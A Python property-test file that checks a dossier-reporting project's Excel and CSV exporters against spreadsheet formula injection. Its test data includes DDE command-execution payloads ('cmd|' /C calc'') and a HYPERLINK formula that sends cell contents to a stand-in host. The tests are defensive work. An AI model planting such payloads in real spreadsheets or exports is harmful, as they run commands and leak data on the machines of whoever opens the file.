"""No exported cell starts a spreadsheet formula (=, +, -, @), whatever text the warehouse holds.

Agency names, procedure names and dossier ids come from loaded files, so they can hold anything a
vendor (or an attacker) typed. Property tests over the writers with hypothesis text: the dossier
listings' Excel file (ui.listing.excel_bytes), the periodic report's workbook
(warehouse.report_xlsx.write_xlsx) and its CSV (warehouse.report.write_report); each file is read back
(polars.read_excel, csv) and every text cell checked, and the workbook's XML must hold no formula at
all. The report writers get their rows from a stand-in for the query (the thing under test is the
writer, not the query); one end-to-end test goes from a warehouse whose names are formulas through the
real queries and the command.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
import zipfile

import polars as pl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import ROOT, dossier, make_warehouse
from ui import listing
from warehouse import escape, queries, queries_late, report, report_xlsx
from warehouse.metrics import REPORT_COLUMNS

FORMULA_START = ("=", "+", "-", "@")
PREFIXES = ["", "", "=", "+", "-", "@", "==", "=+", "-=", "@=", "\t=", "\r=", " =", "'="]
ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "=cmd|' /C calc'!A0", "+84 912 345 678",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-", "+", "@", "="]
PROFILE = settings(deadline=None, database=None, derandomize=True,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# text an Excel cell can hold (XML 1.0 has no other control characters; xlsxwriter escapes them)
cell_text = st.text(st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from("\t\n"), max_size=24)
risky_text = st.one_of(
    st.builds(lambda p, t: p + t, st.sampled_from(PREFIXES), cell_text),
    st.sampled_from(ATTACKS),
    st.none(),
)


def starts_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def workbook_formulas(data: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [m.group(0) for name in z.namelist() if name.startswith("xl/worksheets/")
                for m in re.finditer(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))]


def sheet_cells(data: bytes, sheet: str | None = None) -> list:
    """Every cell of a sheet as read back, headers included, typed as stored."""
    frame = pl.read_excel(io.BytesIO(data), sheet_name=sheet, has_header=False, infer_schema_length=None,
                          drop_empty_rows=False, drop_empty_cols=False, raise_if_empty=False)
    return [v for col in frame.columns for v in frame[col].to_list()]


# ---- the dossier listings' Excel file ----------------------------------------------------------

@settings(PROFILE, max_examples=150)
@given(rows=st.lists(st.tuples(risky_text, risky_text, risky_text, st.integers(-10**6, 10**6)),
                     min_size=1, max_size=8),
       header=st.sampled_from(["Mã hồ sơ", "=Mã", "-Thủ tục", "@Đơn vị"]))
def test_listing_excel_cells_never_start_a_formula(rows, header):
    frame = pl.DataFrame(rows, schema={header: pl.String, "Thủ tục": pl.String, "Cơ quan, đơn vị": pl.String,
                                       "Số ngày": pl.Int64}, orient="row")
    data = listing.excel_bytes(frame, "Đã trễ hạn")
    assert workbook_formulas(data) == []
    # row 0 is the title, row 1 the header; the foot counts the rows
    back = pl.read_excel(io.BytesIO(data), read_options={"header_row": 1}, infer_schema_length=None)
    assert back[back.columns[0]][-1] == f"Tổng cộng: {frame.height} hồ sơ"
    back = back.head(frame.height)
    for column in frame.columns[:3]:
        read_back = back[back.columns[frame.columns.index(column)]].to_list()
        for written, read in zip(frame[column].to_list(), read_back):
            assert not starts_formula(read), (written, read)
            if written and not starts_formula(written) and not written.startswith(("\t", "\r")):
                assert read == written          # text that was safe is exported unchanged
            elif written:
                assert read == "'" + written    # the rest keeps its text behind an apostrophe
    assert back["Số ngày"].to_list() == frame["Số ngày"].to_list()   # numbers stay numbers, signs and all


# ---- the periodic report's workbook and CSV ----------------------------------------------------

def report_rows(names: list[tuple[str | None, str | None]]) -> pl.DataFrame:
    """Agency rows of the report with the given (code, name) and small counts."""
    counts = {c: [k + 1 for k in range(len(names))] for c in REPORT_COLUMNS}
    return pl.DataFrame({"agency_code": [c for c, _ in names], "agency_name": [n for _, n in names], **counts,
                         "on_time_rate": [0.5] * len(names)},
                        schema_overrides={"agency_code": pl.String, "agency_name": pl.String})


names_strategy = st.lists(st.tuples(risky_text, risky_text), min_size=1, max_size=6)


@settings(PROFILE, max_examples=60)
@given(names=names_strategy, province=risky_text)
def test_report_workbook_cells_never_start_a_formula(names, province, tmp_path, monkeypatch):
    frame = report_rows(names)
    sheets = [report._sheet("Sở, ban, ngành", "các sở, ban, ngành", frame,
                            {"agency_code": "Mã đơn vị", "agency_name": "Tên cơ quan, đơn vị"})]
    monkeypatch.setattr(report_xlsx, "report_sheets", lambda *a, **k: sheets)
    monkeypatch.setattr(report_xlsx.queries_units, "province_unit", lambda r: {"unit_name": province})
    path = tmp_path / "report.xlsx"
    report_xlsx.write_xlsx(None, dt.date(2025, 1, 1), dt.date(2025, 12, 31), "agency", path)
    data = path.read_bytes()
    assert workbook_formulas(data) == []
    cells = sheet_cells(data, "Sở, ban, ngành")
    assert not [c for c in cells if starts_formula(c)]
    # the names are all there, behind an apostrophe where they would have run
    texts = {c for c in cells if isinstance(c, str)}
    for _, name in names:
        if name:
            assert (("'" + name) if name.startswith(escape.FORMULA_START) else name) in texts


@settings(PROFILE, max_examples=100)
@given(names=names_strategy)
def test_report_csv_cells_never_start_a_formula(names, tmp_path, monkeypatch):
    frame = report_rows(names)
    monkeypatch.setattr(report, "report_frame", lambda *a, **k: frame)
    out = io.StringIO()
    report.write_report(tmp_path, dt.date(2025, 1, 1), dt.date(2025, 12, 31), out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(rows) == len(names) + 1
    assert not [cell for row in rows for cell in row if starts_formula(cell)]


# ---- end to end: names that are formulas in the warehouse ------------------------------------------

def test_a_warehouse_full_of_formulas_exports_none(tmp_path):
    agencies = [("=A1", "=HYPERLINK(\"http://x.example\",\"Sở\")", "department"),
                ("@B", "@SUM(1+1)*cmd|' /C calc'!A0", "department"),
                ("-C", "-2+3", "department"), ("+D", "+84 912", "department")]
    rows = [dossier(f"=ID{k}+1", "2025-03-03", "2025-03-10", "2025-03-12", agency=code)
            for k, (code, _, _) in enumerate(agencies)]
    reader = make_warehouse(tmp_path / "wh", rows, agencies=agencies, as_of="2025-12-31")
    try:
        years = queries.periods(reader, "year")
        key = years.filter(years["year"] == 2025)["period_key"][0]
        late = queries_late.late_dossiers(reader, "year", key)
        assert late.height == len(agencies)                     # every dossier finished two days late
        data = listing.excel_bytes(listing.late_listing(late, with_agency=True), "Đã trễ hạn")
    finally:
        reader.close()
    assert workbook_formulas(data) == []
    cells = sheet_cells(data)
    assert not [c for c in cells if starts_formula(c)]
    assert {f"'=ID{k}+1" for k in range(len(agencies))} <= set(cells)
    # the report as an office files it, through the command
    path = tmp_path / "report.xlsx"
    out = subprocess.run([sys.executable, "-m", "etl", "report", "--from", "2025-01-01", "--to", "2025-12-31",
                          "--format", "xlsx", "--output", str(path), "--warehouse", str(tmp_path / "wh")],
                         cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    data = path.read_bytes()
    assert workbook_formulas(data) == []
    for sheet in pl.read_excel(io.BytesIO(data), sheet_id=0, has_header=False, infer_schema_length=None,
                               raise_if_empty=False).values():
        assert not [v for col in sheet.columns for v in sheet[col].to_list() if starts_formula(v)]
